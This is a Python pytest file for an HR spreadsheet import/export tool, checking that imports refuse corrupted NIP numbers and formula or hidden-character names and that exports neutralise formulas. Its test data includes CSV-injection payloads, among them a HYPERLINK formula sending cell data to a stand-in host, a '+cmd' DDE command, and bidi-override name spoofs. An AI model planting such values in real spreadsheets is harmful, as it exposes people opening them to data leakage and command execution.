"""Spreadsheets in are exact or refused: real XLSX files (built with openpyxl) and CSVs as
Excel writes them. An NIP in a number cell, a float-shaped NIP, a name that is a formula
or hides control/bidi characters: a row error, and nothing is written. And files out are
inert: no cell of an export starts a formula, XLSX cells are string cells."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import select

from domain.org import Employee
from handlers.org.org_import import run_import
from handlers.org.tabular import read_table, write_table

SAMPLES = Path(__file__).resolve().parents[2] / "samples"
KADIS, RIZKY = "197305122000031002", "199702112022031015"


def sample(name: str) -> list[list[str]]:
    return list(csv.reader((SAMPLES / name).open(encoding="utf-8")))


def xlsx(path: Path, rows: list[list[object]]) -> Path:
    """A workbook as Excel saves it: numbers as number cells, text as string cells (a text
    starting with "=" too, as when the column is formatted as Text)."""
    book = Workbook()
    sheet = book.active
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(r, c, value if value != "" else None)
            if isinstance(value, str):
                cell.data_type = "s"
    book.save(path)
    return path


def errors(result) -> list[tuple[int | None, str | None, str]]:
    return [(i.row, i.column, i.code) for i in result.errors]


async def people(app) -> dict[str, Employee]:
    async with app.uow() as uow:
        return {e.nip: e for e in await uow.session.scalars(select(Employee))}


async def test_an_nip_in_a_number_cell_is_refused_not_corrupted(app, tmp_path):
    assert (await run_import(app.uow, "units", read_table(SAMPLES / "units.csv"))).written
    rows: list[list[object]] = sample("employees.csv")
    rows[1][0] = int(rows[1][0])  # row 2: the Kadis's own NIP, exact digits but a number cell
    rows[2][8] = float(rows[2][8])  # row 3: the rater, as Excel stores it (…031002 -> …031008)
    assert f"{rows[2][8]:.0f}" != KADIS  # the corruption this guards against
    table = read_table(xlsx(tmp_path / "pegawai.xlsx", rows))
    assert table.rows[0][1][0] == "1.97305122000031E+17"  # passed on as Excel shows it
    result = await run_import(app.uow, "employees", table)
    assert (2, "nip", "nip_number_cell") in errors(result) and (3, "rater_nip", "nip_number_cell") in errors(result)
    assert not result.written and await people(app) == {}
    # Exact digits in string cells are fine.
    good = read_table(xlsx(tmp_path / "teks.xlsx", sample("employees.csv")))
    assert (await run_import(app.uow, "employees", good)).errors == []
    assert (await people(app))[RIZKY].rater_id is not None


async def test_a_unit_head_nip_in_a_number_cell_is_refused(app, tmp_path):
    rows: list[list[object]] = sample("units.csv")
    rows[1][4] = int(rows[1][4])
    result = await run_import(app.uow, "units", read_table(xlsx(tmp_path / "unit.xlsx", rows)))
    assert errors(result)[0] == (2, "head_nip", "nip_number_cell") and not result.written


async def test_a_csv_exported_from_excel_with_float_nips_is_refused(app, tmp_path):
    await run_import(app.uow, "units", read_table(SAMPLES / "units.csv"))
    rows = sample("employees.csv")
    rows[1][0] = "1.97305122000031E+17"
    rows[3][8] = "197808172003122000"  # 15 exact digits and zeros: what "0" number format exports
    path = tmp_path / "pegawai.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f, delimiter=";").writerows(rows)
    result = await run_import(app.uow, "employees", read_table(path))
    assert (2, "nip", "nip_number_cell") in errors(result) and (4, "rater_nip", "nip_number_cell") in errors(result)
    assert not result.written


async def test_formula_and_hidden_characters_in_names_are_row_errors(app, tmp_path):
    await run_import(app.uow, "units", read_table(SAMPLES / "units.csv"))
    rows: list[list[object]] = sample("employees.csv")
    bad = {2: '=HYPERLINK("http://x.example/?"&A1,"klik")', 3: "+cmd|' /C calc'!A0", 4: "@SUM(1+1)",
           5: "-2+3", 6: "Budi\u202aSantoso", 7: "Dewi \u202eitseL", 8: "\u2066Andi\u2069"}
    for row, name in bad.items():
        rows[row - 1][1] = name
    rows[8][2] = "\t=1+1"  # row 9: the jabatan, behind a tab
    result = await run_import(app.uow, "employees", read_table(xlsx(tmp_path / "pegawai.xlsx", rows)),
                              skip_bad=True)
    found = set(errors(result))
    assert {(r, "name", "formula_text") for r in (2, 3, 4, 5)} <= found
    assert {(r, "name", "unsafe_text") for r in (6, 7, 8)} <= found
    assert (9, "jabatan_name", "formula_text") in found
    stored = [e.name + e.jabatan_name for e in (await people(app)).values()]
    assert not any(n.startswith(("=", "+", "-", "@")) or "\x00" in n or "\u202e" in n for n in stored)


async def test_control_characters_in_a_csv_are_row_errors(app, tmp_path):
    """XLSX (XML) cannot hold them; a CSV can."""
    await run_import(app.uow, "units", read_table(SAMPLES / "units.csv"))
    rows = sample("employees.csv")
    rows[1][1], rows[2][2] = "Bambang\x00Hermawan", "Sekretaris\x1bDinas\x07"
    path = tmp_path / "pegawai.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    result = await run_import(app.uow, "employees", read_table(path))
    assert {(2, "name", "unsafe_text"), (3, "jabatan_name", "unsafe_text")} <= set(errors(result))
    assert not result.written


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NASTY = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1",
         "\r=1+1", "Budi\x00\u202eSantoso", "199001012015031001", None]


def read_back(path: Path) -> list[list[str]]:
    if path.suffix == ".csv":
        return list(csv.reader(path.open(encoding="utf-8", newline="")))
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value is not None)
    return [[cell.value or "" for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_every_exported_cell_is_inert_text(tmp_path, suffix):
    path = tmp_path / f"out.{suffix}"
    write_table(path, ["=header", "b"], [[value, "ok"] for value in NASTY])
    rows = read_back(path)
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(FORMULA_START) for cell in cells)
    assert [row[0].replace("\r", "\n") for row in rows] == [
        "'=header", "'" + NASTY[0], "'" + NASTY[1], "'-2+3", "'@SUM(A1)", "'\t=1+1", "'\n=1+1", "BudiSantoso",
        "199001012015031001", ""]
